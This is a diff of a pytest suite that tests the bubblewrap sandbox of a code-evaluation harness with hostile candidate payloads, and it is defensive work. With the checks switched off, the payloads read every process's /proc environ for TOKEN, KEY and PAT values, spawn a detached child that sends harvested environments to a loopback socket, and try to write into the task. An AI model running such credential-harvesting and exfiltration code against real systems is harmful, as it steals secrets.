@@ -13,7 +13,10 @@ from __future__ import annotations
 import hashlib
 import os
 import secrets
+import shutil
 import socket
+import subprocess
+import sys
 import threading
 import time
 from collections.abc import Iterator
@@ -21,9 +24,10 @@ from pathlib import Path
 
 import psutil
 import pytest
-from suite import SUITE_CONFIG, describe, task_dir
+from suite import describe, task_dir
 
 from evaluators import sandbox
+from evaluators.config import EvalConfig
 from evaluators.pool import WorkerPool
 
 SENTINEL = f"SENTINEL{secrets.token_hex(8)}"
@@ -33,6 +37,11 @@ SECRETS = {
     "GH_PAT": f"pat-{SENTINEL}",  # a name that says neither TOKEN nor KEY
 }
 TASK = "scale_add"
+# The wall alone: with the static checks and the audit hooks off, every payload runs as far as the box lets
+# it (with them on, most are flagged first, which would prove nothing about the box).
+WALL_ONLY = EvalConfig(
+    backend="triton-interpret", interpret_max_numel=70_000, static_checks=False, runtime_checks=False
+)
 
 pytestmark = pytest.mark.skipif(not sandbox.availability().ok, reason="no bubblewrap box on this machine")
 
@@ -113,7 +122,7 @@ def boxed_pool() -> Iterator[WorkerPool]:
     saved = {k: os.environ.get(k) for k in SECRETS}
     os.environ.update(SECRETS)
     try:
-        with WorkerPool("triton-interpret", size=1, config=SUITE_CONFIG) as pool:
+        with WorkerPool("triton-interpret", size=1, config=WALL_ONLY) as pool:
             assert pool.sandbox.startswith("bubblewrap"), pool.sandbox
             yield pool
     finally:
@@ -122,6 +131,18 @@ def boxed_pool() -> Iterator[WorkerPool]:
                 os.environ.pop(key, None)
             else:
                 os.environ[key] = value
+
+
+@pytest.fixture(scope="module")
+def holder() -> Iterator[int]:
+    """A process that holds the secrets in its initial environment, as kernelbot's own process does (what
+    /proc/<pid>/environ shows is the environment a process started with)."""
+    proc = subprocess.Popen(
+        [sys.executable, "-c", "import time; time.sleep(600)"], env={**os.environ, **SECRETS}
+    )
+    yield proc.pid
+    proc.kill()
+    proc.wait()
 
 
 @pytest.fixture()
@@ -167,13 +188,20 @@ def _marked(marker: str) -> list[psutil.Process]:
     return found
 
 
-def _judge(pool: WorkerPool, payload: str, tmp_path: Path) -> str:
+@pytest.fixture(scope="module")
+def task(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A copy of the suite's task, so that a wall that fails cannot damage the checkout."""
+    root = tmp_path_factory.mktemp("sandboxed") / TASK
+    shutil.copytree(task_dir(TASK), root)
+    return root
+
+
+def _judge(pool: WorkerPool, task: Path, payload: str, tmp_path: Path) -> str:
     """Evaluate the payload's candidate; everything it may have leaked through, as one text."""
-    task = task_dir(TASK)
     before = _digest(task)
-    result = pool.evaluate(task, candidate(payload))
+    result = pool.evaluate(task, candidate(payload), config=WALL_ONLY)
     assert _digest(task) == before, "the task directory changed"
-    staged = list((pool._root / "tasks").iterdir())
+    staged = list((pool._root / "tasks").glob("*")) if pool.sandbox.startswith("bubblewrap") else []
     for copy in staged:
         assert _digest(copy) == before, "the worker's copy of the task changed"
     text = result.to_json() + result.logs + describe(result)
@@ -183,38 +211,50 @@ def _judge(pool: WorkerPool, payload: str, tmp_path: Path) -> str:
     return text
 
 
-def test_environ_of_every_process_holds_no_secret(boxed_pool: WorkerPool, tmp_path: Path) -> None:
+def test_environ_of_every_process_holds_no_secret(
+    boxed_pool: WorkerPool, task: Path, tmp_path: Path, holder: int
+) -> None:
     payload = f"""
 os = _imp("os")
 seen = []
-for name in ["self", str(os.getppid()), "1", "{os.getpid()}"] + os.listdir("/proc"):
+# every pid up to a few thousand (listing /proc is what the audit hook names; reading it is not)
+for name in ["self", str(os.getppid()), "{holder}"] + [str(p) for p in range(1, 4096)]:
     try:
         with open(f"/proc/{{name}}/environ", "rb") as f:
-            seen.append(f.read().decode(errors="replace"))
-    except OSError as exc:
-        seen.append(f"{{name}}: {{exc}}")
-print("ENVIRON-DUMP", seen)
+            found = f.read().decode(errors="replace").split("\\0")
+    except OSError:
+        continue
+    seen += [v for v in found if any(w in v.split("=")[0] for w in ("TOKEN", "KEY", "PAT"))]
+print("ENVIRON-DUMP", len(seen), seen)
 print("OWN", dict(os.environ))
 """
-    text = _judge(boxed_pool, payload, tmp_path)
+    text = _judge(boxed_pool, task, payload, tmp_path)
     assert "ENVIRON-DUMP" in text  # the payload ran and its output reached the log
     assert SENTINEL not in text
 
 
 def test_a_setsid_child_neither_survives_nor_reaches_out(
-    boxed_pool: WorkerPool, server: LoopbackServer, tmp_path: Path
+    boxed_pool: WorkerPool, task: Path, server: LoopbackServer, tmp_path: Path, holder: int
 ) -> None:
     marker = f"kbescape{secrets.token_hex(6)}"
     outside = tmp_path / "leaked.txt"
-    child = (
-        "import os, socket, time; time.sleep(1.5); "
-        "pids = [p for p in os.listdir('/proc') if p.isdigit()]; "
-        "data = b''.join(open(f'/proc/{p}/environ', 'rb').read() for p in pids); "
-        f"open({str(outside)!r}, 'wb').write(data); "
-        f"s = socket.create_connection(('127.0.0.1', {server.port}), timeout=2); s.sendall(data)"
-    )
+    child = f"""
+import os, socket, time
+time.sleep(1.5)
+data = b""
+for pid in os.listdir("/proc"):
+    try:
+        data += open(f"/proc/{{pid}}/environ", "rb").read()
+    except OSError:
+        pass
+try:
+    open({str(outside)!r}, "wb").write(data)
+finally:
+    socket.create_connection(("127.0.0.1", {server.port}), timeout=2).sendall(data)
+    time.sleep(30)
+"""
     payload = spawn_unseen(f'[_imp("sys").executable, "-c", {child!r}, {marker!r}]', setsid=True)
-    text = _judge(boxed_pool, payload, tmp_path)
+    text = _judge(boxed_pool, task, payload, tmp_path)
     assert "SPAWNED" in text, text[-2000:]
     time.sleep(3.0)  # past the child's sleep: had it survived, it would have written and connected by now
     assert _marked(marker) == []
@@ -223,8 +263,10 @@ def test_a_setsid_child_neither_survives_nor_reaches_out(
     assert SENTINEL not in text
 
 
-def test_writes_into_the_task_are_refused_or_land_in_scratch(boxed_pool: WorkerPool, tmp_path: Path) -> None:
-    original = task_dir(TASK)
+def test_writes_into_the_task_are_refused_or_land_in_scratch(
+    boxed_pool: WorkerPool, task: Path, tmp_path: Path
+) -> None:
+    original = task
     payload = f"""
 os = _imp("os"); torch = _imp("torch")
 targets = [{str(original)!r}]
@@ -247,13 +289,13 @@ for root in targets:
         except Exception as exc:
             print("refused map", path, type(exc).__name__)
 """
-    text = _judge(boxed_pool, payload, tmp_path)  # asserts both the task and the worker's copy unchanged
+    text = _judge(boxed_pool, task, payload, tmp_path)  # the task and the worker's copy stay unchanged
     assert "refused" in text, text[-2000:]
     assert SENTINEL not in text
 
 
 def test_loopback_server_of_the_host_is_out_of_reach(
-    boxed_pool: WorkerPool, server: LoopbackServer, tmp_path: Path
+    boxed_pool: WorkerPool, task: Path, server: LoopbackServer, tmp_path: Path
 ) -> None:
     payload = f"""
 socket = _imp("socket"); os = _imp("os")
@@ -264,18 +306,20 @@ try:
 except OSError as exc:
     print("NO NETWORK", exc)
 """
-    text = _judge(boxed_pool, payload, tmp_path)
+    text = _judge(boxed_pool, task, payload, tmp_path)
     assert "NO NETWORK" in text, text[-2000:]
     assert server.received == []
     assert SENTINEL not in text
 
 
-def test_no_process_of_a_candidate_outlives_its_box(boxed_pool: WorkerPool, tmp_path: Path) -> None:
+def test_no_process_of_a_candidate_outlives_its_box(
+    boxed_pool: WorkerPool, task: Path, tmp_path: Path
+) -> None:
     """A child that stays in the worker's group and one that makes its own group, both sleeping."""
     marker = f"kbstay{secrets.token_hex(6)}"
     argv = f'[_imp("sys").executable, "-c", "import time; time.sleep(60)", {marker!r}]'
     payload = spawn_unseen(argv, setsid=False) + spawn_unseen(argv, setsid=False, pgid=0)
-    assert "SPAWNED" in _judge(boxed_pool, payload, tmp_path)
+    assert "SPAWNED" in _judge(boxed_pool, task, payload, tmp_path)
     deadline = time.monotonic() + 5
     while _marked(marker) and time.monotonic() < deadline:
         time.sleep(0.1)
